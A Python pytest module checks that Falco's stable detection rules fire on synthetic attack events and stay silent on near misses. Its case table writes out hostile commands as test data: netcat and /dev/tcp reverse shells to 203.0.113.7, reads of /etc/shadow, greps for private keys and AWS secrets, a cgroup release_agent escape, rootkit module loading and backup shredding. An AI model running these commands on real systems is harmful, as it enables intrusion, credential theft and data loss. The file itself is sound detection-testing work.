"""Hand-written replay tests for every rule of Falco's falco_rules.yaml (maturity_stable).

For each rule there are two event files under ``stable/``:

* ``<slug>.trigger.jsonl`` — the event a real attack produces (right syscall, exit-event
  arguments, process with its parent chain, fd and container where the rule needs them). Replayed
  with all of falco_rules.yaml loaded and ``rule_matching="all"``, it must raise an alert for the
  rule, and the alert must show what a user looks for (the file, the command line...).
* ``<slug>.miss.jsonl`` — the same event with exactly ONE clause of the condition changed, so the
  rule must stay silent. ``CASES`` says, per rule, which clause differs.

A rule added to falco_rules.yaml without both files makes ``test_every_rule_has_event_files`` fail.
"""

from __future__ import annotations

import functools
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from lanner.rules import Ruleset, dns, load
from tests.rules import near_miss
from tests.rules.near_miss import PRIORITY_LABELS, Case, false_clauses, replay

HERE = Path(__file__).resolve().parent
STABLE_DIR = HERE / "stable"
REPO = HERE.parents[1]
# The reference rules live next to the repository (../shared, see DESIGN.md "Reference data").
RULES_FILE = Path(
    os.environ.get("LANNER_FALCO_RULES", str(REPO.parent / "shared" / "falco" / "rules" / "falco_rules.yaml"))
)



CASES: tuple[Case, ...] = (
    Case(
        "Directory traversal monitored file read",
        "php-fpm worker opens /var/www/html/../../../etc/passwd O_RDONLY (LFI)",
        "directory_traversal",
        "directory_traversal: the same open by absolute path /etc/passwd (fd.nameraw has no ../)",
        ("file=/etc/passwd", "fileraw=/var/www/html/../../../etc/passwd", "process=php-fpm7.4"),
        {"fd.name": "/etc/passwd", "fd.nameraw": "/var/www/html/../../../etc/passwd", "user.uid": 33},
    ),
    Case(
        "Read sensitive file trusted after startup",
        "nginx master running for a day opens /etc/shadow O_RDONLY|O_CLOEXEC",
        "not proc_is_new",
        "not proc_is_new: the same open 2 s after nginx started (proc.duration <= 5 s)",
        ("file=/etc/shadow", "process=nginx", "evt_type=openat"),
        {"fd.name": "/etc/shadow", "proc.name": "nginx"},
    ),
    Case(
        "Read sensitive file untrusted",
        "`cat /etc/shadow` in a root ssh session",
        "not proc.name in (user_mgmt_binaries,",
        "not proc.name in (...): the same open of /etc/shadow by `passwd -S root` (passwd_binaries)",
        ("file=/etc/shadow", "command=cat /etc/shadow", "parent=bash", "gparent=sshd"),
        {"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow", "proc.aname[2]": "sshd"},
    ),
    Case(
        "Run shell untrusted",
        "apache2 (mod_php RCE) spawns `sh -c id;uname -a;cat /etc/passwd`",
        "not proc.cmdline in (known_shell_spawn_cmdlines)",
        "not proc.cmdline in (known_shell_spawn_cmdlines): apache2 spawns `sh -c whoami`",
        ("command=sh -c id;uname -a;cat /etc/passwd", "parent=apache2", "parent_exe=/usr/sbin/apache2"),
        {"proc.pname": "apache2", "proc.cmdline": "sh -c id;uname -a;cat /etc/passwd"},
    ),
    Case(
        "System user interactive",
        "www-data runs `id` in an ssh session (bash <- sshd <- sshd)",
        "system_users",
        "system_users: the same ssh session and command by user alice (uid 1000)",
        ("user=www-data", "user_uid=33", "process=id", "parent=bash"),
        {"user.name": "www-data", "user.uid": 33, "user.loginuid": 33},
    ),
    Case(
        "Terminal shell in container",
        "`kubectl exec -it ... -- bash`: bash in the nginx container with a tty, parent containerd-shim",
        "proc.tty != 0",
        "proc.tty != 0: the same bash exec without a terminal (tty 0)",
        ("process=bash", "terminal=34816", "container_id=93537c6c64d6", "k8s_pod_name=web-6d8f7c9b5d-x2k4q"),
        {"proc.tty": 34816, "container.id": "93537c6c64d6", "k8s.ns.name": "shop"},
    ),
    Case(
        "Contact K8S API Server From Container",
        "curl in the orders-api pod connects to kubernetes.default.svc.cluster.local (10.96.0.1:443)",
        "not k8s_containers",
        "not k8s_containers: the same connect from a pod in namespace kube-system",
        ("connection=10.244.1.23:48712->10.96.0.1:443", "process=curl"),
        {"fd.name": "10.244.1.23:48712->10.96.0.1:443"},
    ),
    Case(
        "Netcat Remote Code Execution in Container",
        "`nc -e /bin/sh 203.0.113.7 4444` in the orders-api container",
        '((proc.name = "nc" and',
        "the -e/-c clause: the same nc to the same host without -e (`nc -w 3 203.0.113.7 4444`)",
        ("command=nc -e /bin/sh 203.0.113.7 4444", "container_name=orders-api"),
        {"proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "container.id": "de871ded02c7"},
    ),
    Case(
        "Search Private Keys or Passwords",
        "`grep -ril 'begin openssh private' /home /root` (icontains)",
        "((grep_commands and private_key_or_password) or",
        "private_key_or_password: grep for ' pass ', which only the grep_more macro (never_true) covers",
        ("command=grep -ril begin openssh private /home /root", "process=grep"),
        {"proc.name": "grep"},
    ),
    Case(
        "Clear Log Activities",
        "bash `: > /var/log/auth.log` opens O_WRONLY|O_CREAT|O_TRUNC",
        'evt.arg.flags contains "O_TRUNC"',
        "evt.arg.flags contains O_TRUNC: the same open as `>>` (O_APPEND|O_CREAT|O_WRONLY)",
        ("file=/var/log/auth.log", "process=bash"),
        {"fd.name": "/var/log/auth.log"},
    ),
    Case(
        "Remove Bulk Data from Disk",
        "`/usr/bin/shred -u -z -n 3 /var/backups/customers.sql` from a root shell",
        "clear_data_procs",
        "clear_data_procs: the execve fails (ENOENT), so proc.* still describes the forked bash",
        ("command=shred -u -z -n 3 /var/backups/customers.sql", "proc_exepath=/usr/bin/shred"),
        {"proc.cmdline": "shred -u -z -n 3 /var/backups/customers.sql"},
    ),
    Case(
        "Create Symlink Over Sensitive Files",
        "`ln -s /etc/shadow /var/tmp/.s` (symlinkat, AT_FDCWD)",
        "(evt.arg.target in (sensitive_file_names) or",
        "evt.arg.target in (sensitive_file_names): the same ln -s of /etc/hosts",
        ("target=/etc/shadow", "linkpath=/var/tmp/.s", "evt_type=symlinkat"),
        {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/var/tmp/.s"},
    ),
    Case(
        "Create Hardlink Over Sensitive Files",
        "`ln /etc/shadow /var/tmp/.sh` (linkat, AT_FDCWD)",
        "(evt.arg.oldpath in (sensitive_file_names))",
        "evt.arg.oldpath in (sensitive_file_names): the same hard link of /etc/passwd",
        ("target=/etc/shadow", "linkpath=/var/tmp/.sh", "evt_type=linkat"),
        {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/var/tmp/.sh"},
    ),
    Case(
        "Packet socket created in container",
        "tcpdump in the nginx container: socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))",
        "container",
        "container: the same tcpdump socket on the host (container.id=host)",
        ("process=tcpdump", "container_id=93537c6c64d6", "AF_PACKET"),
        {"proc.name": "tcpdump", "container.id": "93537c6c64d6"},
    ),
    Case(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "bash reverse shell `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`: dup2(tcp socket, 1)",
        'fd.type in ("ipv4", "ipv6")',
        "fd.type in (ipv4, ipv6): the same dup2 onto stdout of a log file (`exec >/tmp/nightly.log`)",
        ("connection=10.244.1.23:39712->203.0.113.7:4444", "fd.sip=203.0.113.7", "fd_type=ipv4",
         "fd_proto=tcp"),
        {"fd.name": "10.244.1.23:39712->203.0.113.7:4444", "fd.sip": "203.0.113.7", "fd.type": "ipv4"},
    ),
    Case(
        "Linux Kernel Module Injection Detected",
        "`insmod /tmp/.k/diamorphine.ko` in a privileged container: finit_module with CAP_SYS_MODULE",
        "thread.cap_effective icontains sys_module",
        "thread.cap_effective icontains sys_module: default container capabilities (finit_module EPERM)",
        ("module=/tmp/.k/diamorphine.ko", "process=insmod", "proc_exepath=/usr/bin/kmod"),
        {"proc.args": "/tmp/.k/diamorphine.ko", "evt.res": "SUCCESS"},
    ),
    Case(
        "Debugfs Launched in Privileged Container",
        "`debugfs -w /dev/sda1` in a privileged container",
        "container.privileged=true",
        "container.privileged=true: the same debugfs in the same pod without privileged",
        ("command=debugfs -w /dev/sda1", "container_name=debug"),
        {"proc.cmdline": "debugfs -w /dev/sda1"},
    ),
    Case(
        "Detect release_agent File Container Escapes",
        "`sh -c 'echo /cmd > /tmp/cgrp/release_agent'` as root with CAP_SYS_ADMIN (privileged)",
        "thread.cap_effective contains CAP_SYS_ADMIN",
        "thread.cap_effective contains CAP_SYS_ADMIN: the same write with default container caps",
        ("file=/tmp/cgrp/release_agent", "CAP_SYS_ADMIN",
         "command=sh -c echo /cmd > /tmp/cgrp/release_agent"),
        {"fd.name": "/tmp/cgrp/release_agent", "user.uid": 0},
    ),
    Case(
        "PTRACE attached to process",
        "python3 injector: ptrace(PTRACE_ATTACH, 1187 /* sshd */)",
        "ptrace_attach_or_injection",
        "ptrace_attach_or_injection: the same injector's ptrace(PTRACE_DETACH, 1187)",
        ("command=python3 /tmp/.x/inject.py 1187", "evt_type=ptrace", "parent=bash"),
        {"proc.cmdline": "python3 /tmp/.x/inject.py 1187"},
    ),
    Case(
        "PTRACE anti-debug attempt",
        "miner /tmp/kdevtmpfsi calls ptrace(PTRACE_TRACEME)",
        "proc_name_exists",
        "proc_name_exists: the same call from a thread unknown to the state (placeholder, proc.name <NA>)",
        ("process=kdevtmpfsi", "proc_exepath=/tmp/kdevtmpfsi", "parent=systemd"),
        {"proc.name": "kdevtmpfsi", "proc.pname": "systemd"},
    ),
    Case(
        "Find AWS Credentials",
        "`grep -rin AWS_SECRET_ACCESS_KEY /home /root /var/www` (icontains)",
        "((grep_commands and private_aws_credentials) or",
        "private_aws_credentials: the same grep for AWS_DEFAULT_REGION",
        ("command=grep -rin AWS_SECRET_ACCESS_KEY /home /root /var/www", "proc_cwd=/root/"),
        {"proc.cwd": "/root/", "group.gid": 0},
    ),
    Case(
        "Execution from /dev/shm",
        "miner /dev/shm/kdevtmpfsi exec'd in the orders-api container after an RCE",
        "not container.image.repository in (falco_privileged_images, trusted_images)",
        "not container.image.repository in (falco_privileged_images...): same exec in a falco image",
        ("process=kdevtmpfsi", "proc_exepath=/dev/shm/kdevtmpfsi", "proc_cwd=/dev/shm/"),
        {"proc.exepath": "/dev/shm/kdevtmpfsi",
         "container.image.repository": "registry.example.com/shop/orders-api"},
    ),
    Case(
        "Drop and execute new binary in container",
        "xmrig downloaded to /tmp (overlay upper layer) and executed in the orders-api container",
        "proc.is_exe_upper_layer=true",
        "proc.is_exe_upper_layer=true: the same exec of a file that is part of the image (lower layer)",
        ("proc_exe=/tmp/xmrig", "process=xmrig", "EXE_UPPER_LAYER"),
        {"proc.exe": "/tmp/xmrig", "container.image.tag": "2.4.1",
         "container.start_ts": 1735700000000000000},
    ),
    Case(
        "Disallowed SSH Connection Non Standard Port",
        "reverse tunnel `ssh -p 443 ... -R 2222:localhost:22 tunnel@203.0.113.7`: connect EINPROGRESS",
        "ssh_non_standard_ports_network",
        "ssh_non_standard_ports_network: the same ssh connect to port 22",
        ("connection=192.168.1.20:51734->203.0.113.7:443", "process=ssh", "fd_proto=tcp"),
        {"fd.name": "192.168.1.20:51734->203.0.113.7:443", "fd.l4proto": "tcp"},
    ),
    Case(
        "Fileless execution via memfd_create",
        "python dropper (curl | python3 from cron) re-execs itself from a memfd via /proc/self/fd/5",
        "not known_memfd_execution_processes",
        "not known_memfd_execution_processes: runc's own memfd clone (memfd:runc_cloned:/proc/self/exe)",
        ("proc_exepath=memfd:kworker", "parent=sh", "gparent=cron"),
        {"proc.exepath": "memfd:kworker", "proc.aname[2]": "cron"},
    ),
)

CASES_BY_RULE = {c.rule: c for c in CASES}


def slug(rule: str) -> str:
    """The file-name stem for a rule: lower case, runs of other characters become '-'."""
    return re.sub(r"[^a-z0-9]+", "-", rule.lower()).strip("-")


@functools.cache
def rule_items() -> tuple[dict[str, Any], ...]:
    """The rule items of falco_rules.yaml, in file order."""
    docs = yaml.safe_load(RULES_FILE.read_text(encoding="utf-8"))
    return tuple(item for item in docs if "rule" in item)


def rules_in_file() -> dict[str, str]:
    """Rule name -> priority as written, for every rule defined in falco_rules.yaml."""
    return {str(item["rule"]): str(item["priority"]).strip() for item in rule_items()}


@functools.cache
def clause_ruleset() -> tuple[Ruleset, dict[str, list[str]]]:
    """falco_rules.yaml plus one DEBUG rule per top-level clause of every rule's condition."""
    return near_miss.clause_ruleset(RULES_FILE, rule_items())


@pytest.fixture(autouse=True, scope="module")
def api_server_address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """The cluster's API server name resolves to the trigger's 10.96.0.1 (a hosts entry, no DNS)."""
    hosts = tmp_path_factory.mktemp("dns") / "hosts"
    hosts.write_text("10.96.0.1 kubernetes.default.svc.cluster.local\n")
    dns.reset(str(hosts))
    yield
    dns.reset()


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    if not RULES_FILE.is_file():
        pytest.fail(f"reference rules file not found: {RULES_FILE} (set LANNER_FALCO_RULES)")
    return load([RULES_FILE])


def test_every_rule_has_event_files() -> None:
    names = rules_in_file()
    assert len(names) >= 25
    assert sorted(names) == sorted(CASES_BY_RULE), "CASES must list exactly the rules of falco_rules.yaml"
    missing = [
        f"{slug(name)}.{kind}.jsonl"
        for name in names
        for kind in ("trigger", "miss")
        if not (STABLE_DIR / f"{slug(name)}.{kind}.jsonl").is_file()
    ]
    assert not missing, f"rules without event files: {missing}"
    expected = {f"{slug(n)}.{k}.jsonl" for n in names for k in ("trigger", "miss")}
    stray = sorted(p.name for p in STABLE_DIR.glob("*.jsonl") if p.name not in expected)
    assert not stray, f"event files that belong to no rule: {stray}"


def test_rules_file_loads_without_errors(ruleset: Ruleset) -> None:
    assert ruleset.errors == []
    assert set(rules_in_file()) <= set(ruleset.rules)


def _params(kind: str) -> list[Any]:
    out = []
    for case in CASES:
        marks = []
        if case.xfail and kind in ("trigger", "clauses"):
            marks.append(pytest.mark.xfail(strict=True, reason=case.xfail))
        out.append(pytest.param(case, id=slug(case.rule), marks=marks))
    return out


@pytest.mark.parametrize("case", _params("trigger"))
def test_trigger_alerts(ruleset: Ruleset, case: Case) -> None:
    path = STABLE_DIR / f"{slug(case.rule)}.trigger.jsonl"
    alerts = [a for a in replay(ruleset, path) if a.rule == case.rule]
    assert alerts, f"{path.name}: no alert for {case.rule!r} ({case.trigger})"
    alert = alerts[0]
    written = rules_in_file()[case.rule].lower()
    assert alert.priority == PRIORITY_LABELS[written]
    line = alert.output
    for text in case.output:
        assert text in line, f"{text!r} not in alert output: {line}"
    for name, value in case.fields.items():
        assert name in alert.output_fields, f"{name} not in output_fields"
        assert alert.output_fields[name] == value, f"output_fields[{name!r}]"
    assert "maturity_stable" in alert.tags


@pytest.mark.parametrize("case", _params("miss"))
def test_near_miss_is_silent(ruleset: Ruleset, case: Case) -> None:
    path = STABLE_DIR / f"{slug(case.rule)}.miss.jsonl"
    alerts = [a for a in replay(ruleset, path) if a.rule == case.rule]
    assert not alerts, f"{path.name}: unexpected alert ({case.miss}): {alerts[0].output}"


@pytest.mark.parametrize("case", _params("clauses"))
def test_near_miss_differs_in_exactly_one_clause(case: Case) -> None:
    """Every top-level clause holds for the trigger; exactly the named one fails for the miss."""
    ruleset, clauses = clause_ruleset()
    assert ruleset.errors == []
    rule_clauses = clauses[case.rule]
    stem = STABLE_DIR / slug(case.rule)
    assert false_clauses(ruleset, rule_clauses, case.rule, stem.with_suffix(".trigger.jsonl")) == []
    failed = false_clauses(ruleset, rule_clauses, case.rule, stem.with_suffix(".miss.jsonl"))
    assert len(failed) == 1 and failed[0].startswith(case.clause), (
        f"near miss should fail only the clause {case.clause!r}; it fails {failed}")
